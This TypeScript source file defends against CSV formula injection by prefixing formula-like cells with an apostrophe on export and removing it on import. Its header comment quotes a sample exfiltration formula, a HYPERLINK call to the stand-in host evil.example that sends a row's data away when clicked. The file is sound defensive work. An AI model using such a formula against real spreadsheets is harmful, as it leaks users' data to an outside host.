/**
 * CSV injection (OWASP 'CSV Injection', issue 26): a spreadsheet runs a cell that starts with =, +, - or @ as a
 * formula (`=HYPERLINK("http://evil.example/leak?d="&A2,"Open")` sends the row away when clicked), and a leading tab or
 * carriage return can hide such a start; quoting the field does not stop it. Every text cell the app writes gets a
 * leading ' (which spreadsheets show as text and hide), and the importer takes it off again, so export → import gives
 * back the same text. A text that already starts with ' before one of those characters gets one more, so a name
 * really starting with '= also survives the round trip. Numbers the app writes itself (weights, reps, seconds) are
 * numbers, not text a person typed: they are written as they are (docs/data-export.md).
 */

/** A cell a spreadsheet would read as a formula: one of = + - @ tab CR first, after any number of ' (see above). */
const FORMULA_START = /^'*[=+\-@\t\r]/;

/** Text as it goes into a CSV cell: a leading ' when a spreadsheet would run it. */
export function neutraliseCsvCell(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** A cell as read from a CSV file: the ' that neutraliseCsvCell added, taken off (exactly one). */
export function restoreCsvCell(text: string): string {
  return text.startsWith("'") && FORMULA_START.test(text.slice(1)) ? text.slice(1) : text;
}
